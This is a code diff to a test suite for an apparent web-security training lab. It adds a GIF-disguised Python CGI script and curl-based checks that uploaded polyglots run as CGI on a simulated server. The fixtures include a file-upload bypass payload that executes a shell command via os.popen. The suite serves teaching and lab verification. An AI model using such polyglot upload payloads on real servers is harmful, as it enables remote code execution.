@@ -105,6 +105,10 @@ async function webTargetsLab(): Promise<LabSpec> {
         path: '/home/student/avatar.py.gif',
         content: 'GIF89a=1\nimport os\nprint(os.popen("id -un").read())\n',
       },
+      {
+        path: '/home/student/cgi.py.gif',
+        content: 'GIF89a=1\nprint("Status: 201 Created")\nprint("Content-Type: text/csv")\nprint()\nprint("made")\n',
+      },
     ],
   };
 }
@@ -221,6 +225,10 @@ describe('the web targets, attacked from the learner shell as the lessons teach'
       'Stored as /uploads/avatar.py.gif\n',
     );
     expect(await run('curl -s http://avatars.lab.internal/uploads/avatar.py.gif')).toBe('www-data\n\n');
+    // A script that prints CGI headers gets them read as headers, as Apache's mod_cgi does, not served in the body.
+    const cgi = 'http://avatars.lab.internal/uploads/cgi.py.gif';
+    await run('curl -s -o /dev/null -F avatar=@cgi.py.gif http://avatars.lab.internal/upload');
+    expect(await run(`curl -s -w '%{http_code} %{content_type}' ${cgi}`)).toBe('made\n201 text/csv');
     expect(await run(`printf 'GIF89a' > x.php; curl -s -F avatar=@x.php http://avatars.lab.internal/upload`)).toBe(
       'Rejected: only .gif, .png, .jpg and .jpeg files\n',
     );
